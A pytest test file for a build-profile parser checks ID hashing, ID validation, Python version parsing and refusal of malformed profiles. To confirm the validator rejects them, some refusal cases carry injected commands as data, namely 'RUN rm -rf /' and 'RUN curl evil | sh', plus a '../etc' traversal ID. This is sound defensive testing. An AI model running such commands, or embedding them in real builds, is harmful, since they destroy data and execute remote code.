from __future__ import annotations

import json

import pytest

from pfbuild.client.errors import BadRequest, ProfileRefused
from pfbuild.client.profile import compute_profile_id, parse_profile, python_version

BASE = {"python_version_target": "3.11", "install_cmds": ["pip install -e ."], "env": {"A": "1"}}


def test_id_is_sha256_of_canonical_json_with_working_dir_dot() -> None:
    p = parse_profile({**BASE, "working_dir": "/somewhere/else"})
    q = parse_profile(dict(reversed(list({**BASE, "working_dir": "other"}.items()))))
    assert p.profile_id == q.profile_id
    import hashlib

    canonical = json.dumps({**BASE, "working_dir": "."}, sort_keys=True, separators=(",", ":"))
    assert p.profile_id == hashlib.sha256(canonical.encode()).hexdigest()


def test_unknown_fields_are_kept_and_count_in_the_id() -> None:
    a = parse_profile({**BASE, "extra": 1})
    b = parse_profile({**BASE, "extra": 2})
    assert a.raw["extra"] == 1
    assert a.profile_id != b.profile_id != compute_profile_id(BASE)


def test_wrapped_form_uses_the_given_id() -> None:
    p = parse_profile({"profile_id": "my-repo.v2", "profile": BASE})
    assert p.profile_id == "my-repo.v2"
    assert p.install_cmds == ("pip install -e .",)


@pytest.mark.parametrize(
    "bad_id",
    ["Upper", "-lead", "trail-", "a..b", "a/b", "../etc", "a b", "x" * 129, "", "a___b", 5],
)
def test_invalid_ids_are_refused_not_rewritten(bad_id: object) -> None:
    with pytest.raises(BadRequest):
        parse_profile({"profile_id": bad_id, "profile": BASE})


@pytest.mark.parametrize("good_id", ["a", "a.b", "a_b", "a__b", "a---b", "x" * 128, "0-9"])
def test_valid_ids(good_id: str) -> None:
    assert parse_profile({"profile_id": good_id, "profile": BASE}).profile_id == good_id


@pytest.mark.parametrize(
    ("target", "expected"),
    [
        ("3.8.10", "3.8.10"),
        ("3.9", "3.9"),
        ("python>=3.7.2,<4", "3.7.2"),
        ("requires python 3.10 or newer", "3.10"),
        ("3", "3.0"),
        ("py3", "3.0"),
        ("", "3.11"),
        (None, "3.11"),
        ("latest", "3.11"),
    ],
)
def test_python_version_choice(target: str | None, expected: str) -> None:
    assert python_version(target) == expected


@pytest.mark.parametrize(
    ("change", "error", "says"),
    [
        ({"status": "unsupported"}, ProfileRefused, "unsupported"),
        ({"install_cmds": []}, ProfileRefused, "install_cmds"),
        ({"install_cmds": ["  ", ""]}, ProfileRefused, "install_cmds"),
        ({"env": {"1BAD": "x"}}, BadRequest, "shell identifier"),
        ({"env": {"A-B": "x"}}, BadRequest, "shell identifier"),
        ({"env": {"A": "x\nRUN rm -rf /"}}, BadRequest, "inject"),
        ({"env": {"A": "x\r"}}, BadRequest, "inject"),
        ({"install_cmds": ["echo hi\nRUN curl evil | sh"]}, BadRequest, "inject"),
        ({"install_cmds": ["echo \x00"]}, BadRequest, "inject"),
        ({"install_cmds": ["echo hi \\"]}, BadRequest, "backslash"),
        ({"install_cmds": "pip install ."}, BadRequest, "wrong types"),
        ({"install_cmds": [1]}, BadRequest, "wrong types"),
        ({"env": {"A": 1}}, BadRequest, "wrong types"),
        ({"env": ["A=1"]}, BadRequest, "wrong types"),
        ({"python_version_target": 3.8}, BadRequest, "wrong types"),
        ({"allow_unauthenticated_apt": "yes"}, BadRequest, "wrong types"),
    ],
)
def test_refusals(change: dict[str, object], error: type[Exception], says: str) -> None:
    with pytest.raises(error) as info:
        parse_profile({**BASE, **change})
    assert says in str(info.value)


def test_not_an_object() -> None:
    with pytest.raises(BadRequest):
        parse_profile(["install_cmds"])
